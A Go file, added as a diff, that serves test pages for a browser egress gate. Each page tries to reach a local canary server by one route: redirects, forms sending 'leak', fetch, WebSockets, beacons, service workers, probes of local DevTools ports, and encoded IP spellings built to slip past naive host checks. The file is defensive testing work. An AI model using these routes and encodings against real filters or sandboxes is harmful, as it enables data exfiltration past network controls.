@@ -1,0 +1,265 @@
+package demosite
+
+import (
+	"fmt"
+	"html/template"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+)
+
+// Attacks serves pages that each try to reach the canary by one path a
+// browser can take: server redirects, script and form navigations, popups,
+// frames, subresources, fetch, WebSockets, beacons, hints, service workers,
+// downloads, and the canary's address in encoded spellings. Each page is
+// served under /attack/<name>; the egress tests open it (and click the
+// button with id "go" where the attempt needs a user gesture), and a canary
+// that saw nothing is the proof that the gate held.
+//
+// Pages that attempt something by themselves write "done" into the element
+// with id "status" once the attempt has been made (and settled, where the
+// page can tell), so a test can wait on the page instead of sleeping.
+type Attacks struct {
+	// Canary is the base URL of the canary ("http://127.0.0.2:PORT", no
+	// trailing slash). Every attack aims at a path under it that names the
+	// attack, so a canary's log says which one got through.
+	Canary string
+	// CrossSite is the base URL of this same handler served on another
+	// allowed site ("http://127.0.0.3:PORT"), for the out-of-process iframe
+	// attacks. Empty means those pages use their own origin.
+	CrossSite string
+}
+
+// NewAttackSite mounts the attack pages under /attack/ beside site, which
+// serves everything else, so one server carries both the demo site and the
+// attacks.
+func NewAttackSite(site http.Handler, a *Attacks) http.Handler {
+	mux := http.NewServeMux()
+	mux.Handle("/attack/", a)
+	mux.Handle("/", site)
+	return mux
+}
+
+// attackData is what an attack page template sees.
+type attackData struct {
+	Name  string
+	U     string // the canary URL this attack aims at (maybe encoded)
+	WS    string // the canary as a WebSocket URL
+	XSite string // the cross-site copy of this handler
+	Port  int    // a loopback port to probe (DevTools, proxy)
+	Meta  string // meta refresh content ("0;url=...")
+}
+
+// encodedHosts are spellings of 127.0.0.2 that Chromium reads as that
+// address and a naive string check would not: decimal, hex and octal
+// (WHATWG URL "IPv4 number parser"), a trailing dot, an IPv4-mapped IPv6
+// literal, the short form a.b (b fills the low 24 bits), and percent-encoded
+// host bytes (decoded before host parsing).
+var encodedHosts = map[string]string{
+	"decimal":     "2130706434",
+	"hex":         "0x7f.0.0.2",
+	"octal":       "0177.0.0.2",
+	"trailingdot": "127.0.0.2.",
+	"mapped6":     "[::ffff:127.0.0.2]",
+	"short":       "127.2",
+	"percent":     "%31%32%37.0.0.2",
+}
+
+// EncodedCanaryURLs returns the canary's base URL spelled each way in
+// encodedHosts, keyed by the spelling's name, for tests that give them
+// straight to navigate.
+func EncodedCanaryURLs(canary string) map[string]string {
+	port := canaryPort(canary)
+	out := make(map[string]string, len(encodedHosts))
+	for name, h := range encodedHosts {
+		out[name] = "http://" + h + ":" + port
+	}
+	return out
+}
+
+// EncodedSpellings lists the names EncodedCanaryURLs and the
+// /attack/encoded/<name> pages accept.
+func EncodedSpellings() []string {
+	return []string{"decimal", "hex", "octal", "trailingdot", "mapped6", "short", "percent"}
+}
+
+func canaryPort(canary string) string {
+	u, err := url.Parse(canary)
+	if err != nil {
+		return ""
+	}
+	return u.Port()
+}
+
+// ServeHTTP serves the attack named by the path after /attack/.
+func (a *Attacks) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	name := strings.TrimPrefix(r.URL.Path, "/attack/")
+	d := attackData{
+		Name:  name,
+		U:     a.Canary + "/" + strings.ReplaceAll(name, "/", "-"),
+		WS:    "ws" + strings.TrimPrefix(a.Canary, "http") + "/ws/" + name,
+		XSite: a.CrossSite,
+	}
+	switch {
+	case internalTemplates[name]:
+		http.NotFound(w, r)
+		return
+	case strings.HasPrefix(name, "redirect/"):
+		// A server redirect straight to the canary.
+		code, err := strconv.Atoi(strings.TrimPrefix(name, "redirect/"))
+		if err != nil || code < 300 || code > 399 {
+			http.NotFound(w, r)
+			return
+		}
+		http.Redirect(w, r, d.U, code)
+		return
+	case name == "chain":
+		// allowed -> allowed -> canary: every hop must be checked.
+		http.Redirect(w, r, "/attack/chain/2", http.StatusFound)
+		return
+	case name == "chain/2":
+		http.Redirect(w, r, a.Canary+"/chain", http.StatusTemporaryRedirect)
+		return
+	case name == "sw.js":
+		// The service worker fetches the canary as it installs.
+		w.Header().Set("Content-Type", "text/javascript")
+		w.Header().Set("Cache-Control", "no-store")
+		fmt.Fprintf(w, "self.addEventListener('install', e => e.waitUntil(fetch(%s, {mode: 'no-cors'}).catch(() => {})));\n",
+			strconv.Quote(a.Canary+"/service-worker"))
+		fmt.Fprintln(w, "self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));")
+		return
+	case strings.HasPrefix(name, "encoded/"):
+		h, ok := encodedHosts[strings.TrimPrefix(name, "encoded/")]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		d.U = "http://" + h + ":" + canaryPort(a.Canary) + "/" + strings.ReplaceAll(name, "/", "-")
+		name = "encoded"
+	case name == "devtools-port" || name == "proxy-port":
+		// The test knows the port; the page probes it from script.
+		p, err := strconv.Atoi(r.URL.Query().Get("port"))
+		if err != nil || p <= 0 || p > 65535 {
+			http.Error(w, "port: want 1-65535", http.StatusBadRequest)
+			return
+		}
+		d.Port = p
+		name = "port"
+	case name == "meta-refresh":
+		d.Meta = "0;url=" + d.U
+	}
+	if d.XSite == "" {
+		d.XSite = "http://" + r.Host
+	}
+	if attackPages.Lookup(name) == nil {
+		http.NotFound(w, r)
+		return
+	}
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	w.Header().Set("Cache-Control", "no-store")
+	if err := attackPages.ExecuteTemplate(w, name, d); err != nil {
+		http.Error(w, err.Error(), http.StatusInternalServerError)
+	}
+}
+
+// internalTemplates are building blocks and parameterised pages that are
+// reached only through their own paths (/attack/encoded/<spelling>,
+// /attack/devtools-port?port=N).
+var internalTemplates = map[string]bool{"": true, "attacks": true, "head": true, "body": true, "tail": true, "encoded": true, "port": true}
+
+// attackPages holds one template per attack. The head defines done(), which
+// writes "done" (and an optional result) into #status.
+var attackPages = template.Must(template.New("attacks").Parse(`
+{{define "head"}}<!doctype html><html lang="en"><head><meta charset="utf-8"><title>attack {{.Name}}</title>{{end}}
+{{define "body"}}</head><body><h1>Attack: {{.Name}}</h1><p id="status">waiting</p>
+<script>function done(r) { document.getElementById('status').textContent = 'done' + (r ? ': ' + r : ''); }</script>{{end}}
+{{define "tail"}}</body></html>{{end}}
+
+{{define "meta-refresh"}}{{template "head" .}}<meta http-equiv="refresh" content="{{.Meta}}">{{template "body" .}}
+<script>done()</script>{{template "tail"}}{{end}}
+
+{{define "js-location"}}{{template "head" .}}{{template "body" .}}
+<script>location.href = {{.U}}; done();</script>{{template "tail"}}{{end}}
+
+{{define "js-location-timer"}}{{template "head" .}}{{template "body" .}}
+<script>setTimeout(() => { location.assign({{.U}}); setTimeout(done, 300); }, 50);</script>{{template "tail"}}{{end}}
+
+{{define "window-open"}}{{template "head" .}}{{template "body" .}}
+<button id="go" onclick="window.open({{.U}}); done()">Go</button>{{template "tail"}}{{end}}
+
+{{define "link-click"}}{{template "head" .}}{{template "body" .}}
+<p><a id="go" href="{{.U}}">Go</a></p>{{template "tail"}}{{end}}
+
+{{define "form-get"}}{{template "head" .}}{{template "body" .}}
+<form method="get" action="{{.U}}"><input name="q" value="leak"><button id="go">Go</button></form>{{template "tail"}}{{end}}
+
+{{define "form-post"}}{{template "head" .}}{{template "body" .}}
+<form method="post" action="{{.U}}"><input name="q" value="leak"><button id="go">Go</button></form>{{template "tail"}}{{end}}
+
+{{define "iframe"}}{{template "head" .}}{{template "body" .}}
+<iframe src="{{.U}}" onload="done()"></iframe>{{template "tail"}}{{end}}
+
+{{define "cross-site-iframe"}}{{template "head" .}}{{template "body" .}}
+<script>addEventListener('message', e => { if (e.data === 'inner done') done(); });</script>
+<iframe src="{{.XSite}}/attack/inner"></iframe>{{template "tail"}}{{end}}
+
+{{define "inner"}}{{template "head" .}}{{template "body" .}}
+<img src="{{.U}}-img" alt="">
+<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => 'reached', () => 'blocked').then(r => { done(r); parent.postMessage('inner done', '*'); });</script>{{template "tail"}}{{end}}
+
+{{define "cross-site-iframe-navigate"}}{{template "head" .}}{{template "body" .}}
+<iframe src="{{.XSite}}/attack/inner-navigate" onload="done()"></iframe>{{template "tail"}}{{end}}
+
+{{define "inner-navigate"}}{{template "head" .}}{{template "body" .}}
+<script>location.href = {{.U}}; done();</script>{{template "tail"}}{{end}}
+
+{{define "img"}}{{template "head" .}}{{template "body" .}}
+<img src="{{.U}}" alt="" onload="done('reached')" onerror="done('blocked')">{{template "tail"}}{{end}}
+
+{{define "script"}}{{template "head" .}}{{template "body" .}}
+<script src="{{.U}}" onload="done('reached')" onerror="done('blocked')"></script>{{template "tail"}}{{end}}
+
+{{define "stylesheet"}}{{template "head" .}}<link rel="stylesheet" href="{{.U}}" onload="done('reached')" onerror="done('blocked')">{{template "body" .}}{{template "tail"}}{{end}}
+
+{{define "fetch"}}{{template "head" .}}{{template "body" .}}
+<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}
+
+{{define "xhr"}}{{template "head" .}}{{template "body" .}}
+<script>const x = new XMLHttpRequest(); x.onloadend = () => done(); x.open('GET', {{.U}}); x.send();</script>{{template "tail"}}{{end}}
+
+{{define "websocket"}}{{template "head" .}}{{template "body" .}}
+<script>const s = new WebSocket({{.WS}}); s.onopen = () => { done('reached'); s.close(); }; s.onerror = () => done('blocked');</script>{{template "tail"}}{{end}}
+
+{{define "eventsource"}}{{template "head" .}}{{template "body" .}}
+<script>const es = new EventSource({{.U}}); es.onopen = () => { done('reached'); es.close(); }; es.onerror = () => { done('blocked'); es.close(); };</script>{{template "tail"}}{{end}}
+
+{{define "beacon"}}{{template "head" .}}{{template "body" .}}
+<script>done(navigator.sendBeacon({{.U}}, 'leak') ? 'queued' : 'refused');</script>{{template "tail"}}{{end}}
+
+{{define "prefetch"}}{{template "head" .}}<link rel="prefetch" href="{{.U}}">{{template "body" .}}
+<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}
+
+{{define "preconnect"}}{{template "head" .}}<link rel="preconnect" href="{{.U}}">{{template "body" .}}
+<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}
+
+{{define "dns-prefetch"}}{{template "head" .}}<link rel="dns-prefetch" href="{{.U}}">{{template "body" .}}
+<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}
+
+{{define "service-worker"}}{{template "head" .}}{{template "body" .}}
+<script>
+if (!navigator.serviceWorker) { done('unsupported'); } else {
+  navigator.serviceWorker.register('/attack/sw.js').then(() => navigator.serviceWorker.ready).then(() => done('installed'), e => done('failed'));
+}
+</script>{{template "tail"}}{{end}}
+
+{{define "download"}}{{template "head" .}}{{template "body" .}}
+<p><a id="go" href="{{.U}}.bin" download="leak.bin">Download</a></p>{{template "tail"}}{{end}}
+
+{{define "encoded"}}{{template "head" .}}{{template "body" .}}
+<img src="{{.U}}-img" alt="">
+<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}
+
+{{define "port"}}{{template "head" .}}{{template "body" .}}
+<script>fetch('http://127.0.0.1:' + {{.Port}} + '/json/version', {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}
+`))
